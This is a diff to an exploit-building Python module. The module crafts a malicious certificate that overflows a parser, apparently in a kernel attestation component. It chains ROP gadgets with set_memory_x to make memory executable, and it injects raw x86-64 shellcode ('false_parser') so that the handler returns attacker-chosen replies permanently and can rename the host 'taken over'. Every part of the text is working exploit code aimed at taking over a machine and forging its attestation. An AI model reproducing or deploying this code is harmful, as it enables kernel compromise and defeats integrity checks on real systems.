@@ -25,9 +25,11 @@ if TYPE_CHECKING:
     from collections.abc import Sequence
 
 NAME = b"taken over"
-"""What the attacker calls the machine."""
+"""The host name that the attacker sets."""
 NODENAME = 65
-"""The place of the machine's name in `struct uts_namespace` (include/linux/utsname.h)."""
+"""The place of the host name in `struct uts_namespace` (include/linux/utsname.h)."""
+KEPT = 4096
+"""Where in the parser's arena a reply can be kept: no certificate takes as much of it."""
 MESSAGE, INPUT, PARSED = 56, 2048, 256
 """Bytes of the parts of a request and its reply (overlay/kernel/umd_witness/message.h)."""
 
@@ -37,8 +39,6 @@ _NONCE = 16
 _SETHOSTNAME = 170
 _GAP = bytes(64)
 """For functions, which use the memory below a stack."""
-_KEPT = 4096
-"""Where in the parser's arena something can be kept: no certificate takes as much of it."""
 _WRITE_PROTECT = 1 << 16
 """The bit of the register CR0."""
 
@@ -71,7 +71,7 @@ class _Brought:
 def process_file(target: Target, lie: bytes, *, framed: bool, names: bool) -> bytes:
     """Return a certificate that has a handler process reply `lie`, now and ever after.
 
-    With `names`, the process first gives the machine a name. The certificate brings two stacks: for
+    With `names`, the process first sets the host name. The certificate brings two stacks: for
     its own reply, and for the next request. The second one copies itself anew before it starts
     again, because the functions have used its memory.
     """
@@ -126,10 +126,9 @@ def thread_file(target: Target, lie: bytes, *, names: bool) -> bytes:
     goes on as the thread does.
     """
     symbol, brought = target.symbol, _Brought(target)
-    kept = symbol("arena") + _KEPT
+    kept = symbol("arena") + KEPT
     said = brought.add(lie)
-    # mov %rdx, %rdi; mov $kept, %rsi; mov $PARSED, %ecx; rep movsb; xor %eax, %eax; ret
-    parser = b"\x48\x89\xd7" + _move(b"\xc6", kept) + _copy_bytes(PARSED) + b"\x31\xc0\xc3"
+    parser = false_parser(kept, PARSED)
     parser_at = brought.add(parser)
     name_at = brought.add(NAME + b"\0")
     steps = [
@@ -149,6 +148,14 @@ def thread_file(target: Target, lie: bytes, *, names: bool) -> bytes:
     page, pages = symbol("input") & ~0xFFF, 2
     stack = target.code(POP_RDI), page, target.code(POP_RSI), pages, symbol("set_memory_x"), start
     return overflow(target.code(RET), stack, brought.data)
+
+
+def false_parser(reply: int, size: int) -> bytes:
+    """Return code to put in place of a parser: it replies so many bytes from that address.
+
+    x86-64: mov %rdx, %rdi; mov $reply, %rsi; mov $size, %ecx; rep movsb; xor %eax, %eax; ret.
+    """
+    return b"\x48\x89\xd7" + _move(b"\xc6", reply) + _copy_bytes(size) + b"\x31\xc0\xc3"
 
 
 def _low(number: int) -> bytes:
